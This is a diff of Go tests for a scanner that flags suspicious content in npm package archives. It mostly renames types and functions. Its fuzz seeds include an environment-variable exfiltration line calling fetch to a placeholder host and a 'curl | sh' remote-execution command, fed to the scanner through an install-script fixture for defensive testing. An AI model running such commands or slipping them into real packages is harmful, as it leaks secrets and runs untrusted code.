@@ -45,7 +45,7 @@ func contentZip(t testing.TB, files map[string]string) []byte {
 	return buf.Bytes()
 }
 
-func contentSignalIDs(r *ContentReport) map[string]float64 {
+func contentSignalIDs(r *Report) map[string]float64 {
 	out := map[string]float64{}
 	for _, s := range r.Signals {
 		out[s.ID] = max(out[s.ID], s.Value)
@@ -283,7 +283,7 @@ func TestScanPackageArchiveErrors(t *testing.T) {
 	if _, err := ScanPackageArchive(ctx, "bad.tgz", bytes.NewReader(badJSON)); err == nil || !strings.Contains(err.Error(), "package.json") {
 		t.Errorf("bad package.json: %v", err)
 	}
-	big := contentTarGz(t, map[string]string{"package/package.json": `{"name":"b"}`, "package/big.js": strings.Repeat("a", contentMaxFileBytes+1)})
+	big := contentTarGz(t, map[string]string{"package/package.json": `{"name":"b"}`, "package/big.js": strings.Repeat("a", maxFileBytes+1)})
 	rep, err := ScanPackageArchive(ctx, "big.tgz", bytes.NewReader(big))
 	if err != nil {
 		t.Fatal(err)
@@ -325,8 +325,8 @@ func FuzzContentCode(f *testing.F) {
 	f.Add("const x = JSON.stringify(process.env); fetch('http://a')")
 	f.Add("curl http://x | sh")
 	f.Fuzz(func(t *testing.T, code string) {
-		rep := &ContentReport{Ecosystem: "npm"}
-		err := contentAnalyse(context.Background(), rep, []contentFile{
+		rep := &Report{Ecosystem: "npm"}
+		err := analyse(context.Background(), rep, []file{
 			{name: "package.json", data: []byte(`{"name":"f","scripts":{"install":"node i.js"}}`)},
 			{name: "i.js", data: []byte(code)},
 		})
